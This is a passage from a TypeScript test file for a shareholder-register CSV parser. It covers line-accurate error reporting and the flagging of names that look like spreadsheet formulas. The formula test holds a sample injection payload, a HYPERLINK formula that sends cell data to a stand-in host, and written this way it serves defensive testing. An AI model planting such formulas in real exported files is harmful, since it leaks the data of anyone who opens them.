          (rows[k] as string[])[0] = (holders[0] as Holder).account.toUpperCase();
        } else if (corruption === 'extra value') {
          (rows[k] as string[]).push('x');
        } else if (corruption === 'missing value') {
          (rows[k] as string[]).pop();
        } else {
          const row = rows[k] as string[];
          row[REGISTER_COLUMNS.indexOf(corruption.column)] = corruption.value;
        }
        const texts = rows.map(csvRow);
        let badLine = 2;
        for (let j = 0; j < k; j++) badLine += 1 + ((texts[j] as string).match(/\n/g)?.length ?? 0);
        let e: unknown;
        try {
          parseRegister(`${HEADER}\r\n${texts.join('\r\n')}\r\n`, sum(holders));
        } catch (caught) {
          e = caught;
        }
        expect(e).toBeInstanceOf(RegisterError);
        const issues = (e as RegisterError).issues;
        const lines = new Set(issues.map((p: RegisterProblem) => p.line));
        expect(lines.has(badLine)).toBe(true);
        lines.delete(0);
        expect([...lines]).toEqual([badLine]);
      }),
      { numRuns: 500 },
    );
  });
});

describe('names that begin like a spreadsheet formula', () => {
  it('are imported exactly as given, and the import names them for a check', () => {
    const formula = '=HYPERLINK("http://x.example/?"&A1,"Click")';
    const csv = file(
      line('F-1', 100, { name: `"${formula.replaceAll('"', '""')}"` }),
      line('F-2', 100, { joint_names: '\u00a0+1' }),
      line('F-3', 100, { name: '\uff20cmd' }),
      line('OK', 700),
    );
    const { holders, formulaLike } = parseRegister(csv, 1000);
    // Exact: the register and its export are data for the recount, not for a spreadsheet.
    expect(holders[0]?.name).toBe(formula);
    expect(serializeRegister(holders)).toContain(formula.replaceAll('"', '""'));
    expect(formulaLike).toEqual([
      { account: 'F-1', field: 'name' },
      { account: 'F-2', field: 'joint_names' },
      { account: 'F-3', field: 'name' },
    ]);
  });
});
